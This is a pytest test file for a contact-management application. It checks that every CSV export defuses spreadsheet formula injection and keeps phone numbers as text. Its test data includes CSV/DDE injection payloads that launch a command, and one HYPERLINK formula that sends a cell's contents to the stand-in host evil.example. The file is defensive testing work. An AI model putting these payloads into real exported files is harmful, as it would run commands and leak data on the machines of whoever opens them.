"""One CSV guard for every CSV danhba writes: formula-like cells are never run, phone numbers
and other digit strings show in Excel and LibreOffice as the text they are.

The nasty cells go through every CSV writer: contact exports (inline and as a job), a
segment's export, the events explorer's people and an import's rejected rows."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from danhba.conftest import actor_for, skip_or_fail
from danhba.core.actor import Actor
from danhba.core.csvsafe import csv_cell, safe_text, unwrap_excel_text

NASTY = [
    "=1+1",
    "-1+1+cmd|' /C calc'!A0",
    '+1+HYPERLINK("http://evil.example/?d="&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+84+cmd|' /C calc'!A0",
]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
AS_TEXT = re.compile(r'^="\+?\d+(?:; \+?\d+)*"$')  # the one formula danhba writes: a text constant


@pytest.mark.parametrize("text", [*NASTY, "\t=1+1", "\r=1+1", "=cmd", "-", "+", "@"])
def test_anything_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("+84912345678", '="+84912345678"'),  # Excel: 84912345678
        ("0912345678", '="0912345678"'),  # Excel: 912345678
        ("+84912345678; +84987654321", '="+84912345678; +84987654321"'),
        ("123456789012345678", '="123456789012345678"'),  # Excel: 1.23457E+17
        ("912345678", "912345678"),  # a number Excel shows as it is
        ("0", "0"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        # Phones as people write them: a dot or space groups thousands in Vietnamese or
        # French settings (912345678), a leading + would need a visible apostrophe.
        ("0912 345 678", '="0912 345 678"'),
        ("0912.345.678", '="0912.345.678"'),
        ("+84 912 345 678", '="+84 912 345 678"'),
        ("+84-912-345-678", '="+84-912-345-678"'),
        ("(028) 3822 1234", '="(028) 3822 1234"'),
        ("091 234 56 78", '="091 234 56 78"'),  # phonenumbers' national format, as pages show it
        ("+84 912 345 678; 0987.654.321", '="+84 912 345 678; 0987.654.321"'),
        # Not phones: left alone, or a formula defused.
        ("01.05.2025", "01.05.2025"),  # a date: 8 digits
        ("2025-05-01", "2025-05-01"),
        ("12 345", "12 345"),
        ("0912 ABC", "0912 ABC"),
        ("", ""),
    ],
)
def test_phones_and_digit_strings_stay_text_without_an_apostrophe(text: str, written: str) -> None:
    assert safe_text(text) == written
    assert unwrap_excel_text(written) == text


@pytest.mark.parametrize("text", ["+84 912 345 678 ext", "-912 345 678", "+1 (2) +3 4567890", "+84 91x"])
def test_formulas_that_look_a_little_like_phones_are_still_defused(text: str) -> None:
    assert safe_text(text) == "'" + text


def test_values_of_every_type() -> None:
    assert csv_cell(None) == "" and csv_cell(-5) == -5 and csv_cell(True) is True
    assert csv_cell(["+84912345678", "0987654321"]) == '="+84912345678; 0987654321"'
    assert csv_cell(["=1+1", "a"]) == "'=1+1; a"
    assert csv_cell(dt.date(1990, 2, 1)) == "1990-02-01"
    assert csv_cell({"a": "=1"}) == '{"a": "=1"}'


# --- every writer ------------------------------------------------------------------------------


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_safe(rows: list[list[str]], *, payloads: list[str]) -> None:
    flat = [cell for row in rows for cell in row]
    runnable = [c for c in flat if c.startswith(RUNNABLE) and not AS_TEXT.match(c)]
    assert runnable == []
    for payload in payloads:  # each one went through this writer, defused
        assert any(c == "'" + payload or c.startswith("'" + payload) for c in flat), payload


@pytest.fixture
def nasty_contact(make_contact: Any) -> Any:
    return make_contact(
        full_name="Khách Hàng",
        occupation=NASTY[0],
        job_title=NASTY[1],
        street=NASTY[2],
        hobbies=NASTY[3],
        phones=["0912345678", "0987654321"],
        emails=["khach@example.vn"],
    )


def test_contact_exports_inline_and_as_a_job(admin: Any, nasty_contact: Any, settings: Any, tmp_path: Path) -> None:
    from danhba.contacts import exports
    from danhba.contacts.selectors import ContactFilters

    rows = cells("".join(exports.contacts_export_csv(actor=actor_for(admin), filters=ContactFilters())))
    assert_safe(rows, payloads=NASTY[:4])
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["phone"], row["other_phones"]) == ('="+84912345678"', '="+84987654321"')
    settings.MEDIA_ROOT = tmp_path
    job = exports.export_job_create(actor=actor_for(admin), fmt="csv", params={})
    exports.export_job_run(job.pk)
    job.refresh_from_db()
    assert_safe(cells(job.file.read().decode("utf-8")), payloads=NASTY[:4])


def test_a_segment_export(admin: Any, nasty_contact: Any) -> None:
    from danhba.contacts.exports import contacts_export
    from danhba.segments.services import members_add, segment_create

    segment = segment_create(actor=actor_for(admin), name="Danh sách hội chợ", kind="static")
    members_add(segment_id=segment.pk, contact_ids=[nasty_contact.pk], via="ui")
    result = contacts_export(actor=actor_for(admin), fmt="csv", params={"segment": str(segment.pk)})
    assert not hasattr(result, "status")  # streamed, not a job
    rows = cells(b"".join(result.chunks).decode("utf-8"))  # type: ignore[union-attr]
    assert len(rows) == 2
    assert_safe(rows, payloads=NASTY[:4])
    assert dict(zip(rows[0], rows[1], strict=True))["phone"] == '="+84912345678"'


def test_the_event_explorers_people(admin: Any, make_contact: Any) -> None:
    from danhba.tracking.exports import event_people_export_csv
    from danhba.tracking.models import Event
    from danhba.tracking.selectors import EventFilters
    from danhba.tracking.services.sources import source_create

    contact = make_contact(full_name="An", phones=["0912345678"])
    # The name goes into the CSV; set it as an API or an older import could have stored it.
    type(contact).objects.filter(pk=contact.pk).update(full_name=NASTY[1])
    source, _key = source_create(actor=Actor.system("cli"), name="Website", kind="website")
    at = dt.datetime(2025, 3, 10, 11, tzinfo=dt.UTC)
    Event.objects.create(source=source, message_id="m-1", type="track", name="Order Completed", contact=contact,
                         timestamp=at, received_at=at, properties={})  # fmt: skip
    filters = EventFilters.from_params({"range": "custom", "from": "2025-03-10", "to": "2025-03-10"}, tz=dt.UTC)
    rows = cells("".join(event_people_export_csv(actor=actor_for(admin), filters=filters)))
    assert_safe(rows, payloads=[NASTY[1]])
    assert dict(zip(rows[0], rows[1], strict=True))["phone"] == '="+84912345678"'


def test_an_imports_rejected_rows(db: Any) -> None:
    from danhba.ingest import services

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Họ và tên", "Nghề nghiệp", "Chức vụ", "Địa chỉ", "Sở thích", "SĐT", "Ghi chú"])
    # No name, and the phone column left unmapped: no identity, the row is rejected whole.
    writer.writerow(["", *NASTY[:4], "0912345678", NASTY[5]])
    actor = Actor.system("cli")
    run = services.import_create(actor=actor, file=out.getvalue().encode(), file_name="x.csv")
    columns = {"Họ và tên": "full_name", "Nghề nghiệp": "occupation", "Chức vụ": "job_title", "Địa chỉ": "street",
               "Sở thích": "hobbies", "SĐT": "", "Ghi chú": "note"}  # fmt: skip
    run = services.import_configure(actor=actor, run=run, columns=columns, source="import", consent_proof="x")
    services.import_start(actor=actor, run=run, enqueue=False)
    run = services.import_execute(run.pk)
    assert run.rejected == 1
    rows = cells("".join(services.issues_csv(run)))
    assert_safe(rows, payloads=[*NASTY[:4], NASTY[5]])
    assert rows[1][2:] == ["", *("'" + v for v in NASTY[:4]), '="0912345678"', "'" + NASTY[5]]


# --- what LibreOffice reads ----------------------------------------------------------------------


@pytest.mark.slow
def test_libreoffice_reads_phones_as_the_same_text_and_runs_nothing(
    admin: Any, nasty_contact: Any, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    from danhba.contacts.exports import contacts_export_csv
    from danhba.contacts.selectors import ContactFilters

    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        skip_or_fail("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    path = tmp_path / "contacts.csv"
    path.write_text("".join(contacts_export_csv(actor=actor_for(admin), filters=ContactFilters())), encoding="utf-8")
    subprocess.run(
        [office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    formulas = load_workbook(tmp_path / "contacts.xlsx").active
    values = load_workbook(tmp_path / "contacts.xlsx", data_only=True).active
    header = [c.value for c in values[1]]
    row = {h: (v.value, f.value) for h, v, f in zip(header, values[2], formulas[2], strict=True)}
    assert row["phone"][0] == "+84912345678" and row["other_phones"][0] == "+84987654321"
    for key, payload in zip(("occupation", "job_title", "street", "hobbies"), NASTY, strict=False):
        value, written = row[key]
        assert value == written and str(value).lstrip("'").startswith(payload[:5])  # text, not a formula
    assert all(not str(f).startswith("=") for h, (_v, f) in row.items() if h not in ("phone", "other_phones"))
